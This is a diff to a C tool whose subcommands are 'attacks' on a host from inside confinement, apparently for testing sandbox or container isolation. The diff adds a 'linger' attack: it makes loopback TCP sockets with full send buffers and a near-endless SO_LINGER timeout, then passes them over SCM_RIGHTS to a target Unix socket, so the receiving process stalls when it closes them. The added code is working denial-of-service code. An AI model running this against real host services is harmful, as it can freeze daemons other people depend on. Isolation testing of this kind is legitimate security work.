@@ -7,6 +7,7 @@
  *	attack calls | ioctls PATH | sockets | x32 | namespaces
  *	attack uevents SECONDS       what the host's kernel says about devices
  *	attack abstract NAME         connects to a socket of the host's
+ *	attack linger SOCKET         sends descriptors there that take for ever to close
  *	attack exe PID               opens that process' program for writing, in the ways there are
  *	attack swap A B SECONDS      exchanges two names as fast as it can
  *
@@ -22,6 +23,7 @@
 #include <linux/keyctl.h>
 #include <linux/netlink.h>
 #include <linux/nsfs.h>
+#include <netinet/in.h>
 #include <poll.h>
 #include <sched.h>
 #include <signal.h>
@@ -429,6 +431,68 @@ static void abstract_socket(const char *name)
 		printf("OPEN connected to @%s\n", name);
 }
 
+/*
+ * Whoever closes the last descriptor of a TCP socket that lingers waits until its bytes are taken. Here nobody ever takes
+ * them: the other end goes to the same reader, and stands in its queue.
+ */
+static void send_fd(int to, const struct sockaddr_un *a, int fd)
+{
+	union {
+		char b[CMSG_SPACE(sizeof(int))];
+		struct cmsghdr align;
+	} u = {0};
+	struct iovec v = {"x", 1};
+	struct msghdr m = {.msg_name = (void *)(uintptr_t)a, .msg_namelen = sizeof *a, .msg_iov = &v, .msg_iovlen = 1, .msg_control = u.b,
+			   .msg_controllen = sizeof u.b};
+	struct cmsghdr *h = CMSG_FIRSTHDR(&m);
+
+	h->cmsg_level = SOL_SOCKET;
+	h->cmsg_type = SCM_RIGHTS;
+	h->cmsg_len = CMSG_LEN(sizeof fd);
+	memcpy(CMSG_DATA(h), &fd, sizeof fd);
+	if (sendmsg(to, &m, 0) != 1)
+		perror("send");
+	close(fd); /* soon enough, or the waiting is ours: hence many goes at it */
+}
+
+static void lingering_one(const char *path)
+{
+	struct sockaddr_in in = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
+	struct sockaddr_un a = {.sun_family = AF_UNIX};
+	struct linger forever = {1, 100000};
+	socklen_t n = sizeof in;
+	char block[65536] = "";
+	int l = socket(AF_INET, SOCK_STREAM, 0), c = socket(AF_INET, SOCK_STREAM, 0), s, to = socket(AF_UNIX, SOCK_DGRAM, 0);
+
+	strncpy(a.sun_path, path, sizeof a.sun_path - 1);
+	if (bind(l, (void *)&in, sizeof in) < 0 || listen(l, 1) < 0 || getsockname(l, (void *)&in, &n) < 0 ||
+	    connect(c, (void *)&in, sizeof in) < 0 || (s = accept(l, NULL, NULL)) < 0) {
+		perror("tcp");
+		return;
+	}
+	while (send(c, block, sizeof block, MSG_DONTWAIT) > 0)
+		;
+	setsockopt(c, SOL_SOCKET, SO_LINGER, &forever, sizeof forever);
+	for (int i = 0; i < 8; i++)
+		sendto(to, "y", 1, MSG_DONTWAIT, (void *)&a, sizeof a);
+	send_fd(to, &a, c);
+	send_fd(to, &a, s);
+}
+
+static void lingering(const char *path)
+{
+	for (int i = 0; i < 30; i++) {
+		pid_t p = fork();
+
+		if (p == 0) {
+			alarm(1);
+			lingering_one(path);
+			_exit(0);
+		}
+		waitpid(p, NULL, 0);
+	}
+}
+
 /* ---- the rest ---- */
 
 static void namespaces(void)
@@ -533,6 +597,8 @@ int main(int argc, char **argv)
 		uevents(atoi(argv[2]));
 	else if (!strcmp(what, "abstract") && argc == 3)
 		abstract_socket(argv[2]);
+	else if (!strcmp(what, "linger") && argc == 3)
+		lingering(argv[2]);
 	else if (!strcmp(what, "exe") && argc == 3)
 		exe(atoi(argv[2]));
 	else if (!strcmp(what, "swap") && argc == 5)
